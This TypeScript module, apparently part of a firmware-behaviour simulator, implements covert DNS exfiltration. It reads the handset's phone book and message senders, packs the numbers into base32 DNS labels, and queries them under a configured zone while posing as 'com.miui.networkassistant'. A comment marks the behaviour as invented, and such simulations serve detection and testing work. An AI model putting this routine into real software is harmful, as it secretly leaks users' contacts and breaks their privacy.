import type { Behaviour } from '../firmware-types.ts';
import type { App } from '../system.ts';
import type { AppContext } from './context.ts';
import { readInbox, readPhoneBook } from './private-data.ts';
import { everyPeriod } from './schedule.ts';

type Report = Extract<Behaviour, { kind: 'dns-report' }>;

/** Numbers of 13 digits in a label: their 39 bytes make 63 characters of base32, and no label is longer (RFC 1035, 2.3.4). */
const numbersInLabel = 3;
/** Names that are asked for in a period at most. */
const namesInPeriod = 80;
const alphabet = 'abcdefghijklmnopqrstuvwxyz234567';

/**
 * Numbers of the phone book and of the senders of messages in names that the handset asks its resolver for: what dnscat and its like do
 * (base32 in labels). That a build did so is made up.
 */
export function createDnsReport(behaviour: Report, context: AppContext): App {
  const { system, random } = context;
  const log = (line: string) => context.log(`NetDiag: ${line}`);
  let counter = 0;

  const report = async (signal: AbortSignal) => {
    const numbers = [
      ...readPhoneBook(system.providers).map((entry) => entry.number),
      ...readInbox(system.providers).map((message) => message.sender),
    ].map((number) => number.replace(/\D/g, ''));
    for (const label of labelsOf([...new Set(numbers)]).slice(-namesInPeriod)) {
      signal.throwIfAborted();
      counter += 1;
      // No such name is expected: the question is the message.
      await context.resolve(`${label}.${counter.toString(36)}.${behaviour.zone}`).catch(() => undefined);
    }
  };
  return {
    package: 'com.miui.networkassistant',
    ...everyPeriod({ system, random, log, periodSeconds: behaviour.periodSeconds, task: report }),
  };
}

/** The numbers as base32 labels, three in each. */
export function labelsOf(numbers: readonly string[]): string[] {
  const labels: string[] = [];
  for (let from = 0; from < numbers.length; from += numbersInLabel)
    labels.push(base32(Buffer.from(numbers.slice(from, from + numbersInLabel).join(''))));
  return labels;
}

/** RFC 4648, lower case and without padding, as names have no letter case and no `=`. */
function base32(bytes: Buffer): string {
  let text = '';
  let bits = 0;
  let value = 0;
  for (const byte of bytes) {
    value = (value << 8) | byte;
    bits += 8;
    while (bits >= 5) {
      text += alphabet[(value >>> (bits - 5)) & 31];
      bits -= 5;
    }
    value &= (1 << bits) - 1;
  }
  return bits === 0 ? text : text + alphabet[(value << (5 - bits)) & 31];
}
